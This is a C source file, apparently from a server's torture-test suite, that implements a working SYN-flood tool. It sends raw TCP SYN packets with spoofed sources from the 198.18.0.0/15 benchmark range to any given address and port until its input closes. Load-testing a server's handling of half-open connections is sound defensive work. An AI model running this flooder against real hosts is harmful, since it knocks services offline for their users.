/* SPDX-License-Identifier: MIT */
/*
 * synflood.c - opens connections by halves: SYNs from sources that never answer, as fast as it can.
 *
 *     synflood IPV4_ADDRESS PORT
 *
 * The sources are the 131,072 addresses of 198.18.0.0/15 (RFC 2544: nobody's).  Where the answers to
 * them go is for half_open.mjs to say: into nothing, in a network of its own.  Needs CAP_NET_RAW.
 *
 * Every 100 ms one line of JSON, as attackers.mjs prints it: {"opened": SYNs sent}.  It goes on until
 * its standard input ends.  Exit status: 0 it did, 1 nothing could be sent, 2 bad arguments.
 */

#include <arpa/inet.h>
#include <assert.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "shm/base/clock.h"
#include "shm/base/str.h"
#include "test/torture/random.h"

#define SOURCES_FIRST UINT32_C(0xc6120000) /* 198.18.0.0 */
#define SOURCES (1U << 17)                 /* a /15 */
#define SYNS_A_LOOK 256                    /* between two looks at the clock */
#define SAY_EVERY_US 100000

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
};
static_assert(sizeof(struct syn) == 40, "two headers, no options, nothing between them");

/* What TCP's checksum is taken of besides its own header (RFC 9293, 3.1). */
struct pseudo {
    uint32_t source;
    uint32_t target;
    uint16_t protocol;
    uint16_t len;
    struct tcphdr tcp;
};
static_assert(sizeof(struct pseudo) == 32, "summed as 16 words");

static uint16_t checksum(const struct pseudo *pseudo)
{
    uint16_t words[sizeof(*pseudo) / sizeof(uint16_t)];
    uint32_t sum = 0;

    memcpy(words, pseudo, sizeof(words));
    for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++) {
        sum += words[i];
    }
    sum = (sum & 0xffff) + (sum >> 16);
    sum += sum >> 16;
    return (uint16_t)(~sum);
}

/* The kernel fills in the rest of the IP header: its length and its checksum (raw(7)). */
static struct syn make_syn(struct random *random, const struct sockaddr_in *target)
{
    uint64_t dice = random_next(random);
    struct pseudo pseudo = {
        .source = htonl(SOURCES_FIRST + (uint32_t)(dice % SOURCES)),
        .target = target->sin_addr.s_addr,
        .protocol = htons(IPPROTO_TCP),
        .len = htons(sizeof(struct tcphdr)),
        .tcp = {.source = htons((uint16_t)(1024 + (dice >> 20) % 60000)),
                .dest = target->sin_port,
                .seq = (uint32_t)(dice >> 32),
                .doff = sizeof(struct tcphdr) / 4,
                .syn = 1,
                .window = htons(65535)},
    };

    pseudo.tcp.check = checksum(&pseudo);
    return (struct syn){
        .ip = {.version = 4,
               .ihl = sizeof(struct iphdr) / 4,
               .ttl = 64,
               .protocol = IPPROTO_TCP,
               .saddr = pseudo.source,
               .daddr = pseudo.target},
        .tcp = pseudo.tcp,
    };
}

/* The one who started it closes our standard input, or is dead: that closes it, too. */
static bool is_over(void)
{
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};

    return poll(&input, 1, 0) != 0;
}

static int flood(int fd, const struct sockaddr_in *target)
{
    struct random random = {.state = clock_mono_us()};
    uint64_t sent = 0;

    for (uint64_t say_us = 0; !is_over();) {
        for (int i = 0; i < SYNS_A_LOOK; i++) {
            struct syn syn = make_syn(&random, target);
            ssize_t len =
                sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)target, sizeof(*target));

            if (len >= 0) { /* a raw socket takes all of it, or nothing */
                sent++;
            } else if (errno != ENOBUFS && errno != EAGAIN) {
                perror("synflood: sendto");
                return 1;
            }
        }
        if (clock_mono_us() >= say_us) {
            say_us = clock_mono_us() + SAY_EVERY_US;
            printf("{\"opened\":%" PRIu64 "}\n", sent);
            if (fflush(stdout) != 0) {
                return 1;
            }
        }
    }
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in target = {.sin_family = AF_INET};
    uint64_t port;

    if (argc != 3 || inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 ||
        !str_to_u64(str_from(argv[2]), 1, UINT16_MAX, &port)) {
        (void)fprintf(stderr, "usage: synflood IPV4_ADDRESS PORT\n");
        return 2;
    }
    target.sin_port = htons((uint16_t)port);
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* so the IP header is ours */

    if (fd < 0) {
        perror("synflood: a raw socket");
        return 1;
    }
    int status = flood(fd, &target);

    (void)close(fd);
    return status;
}
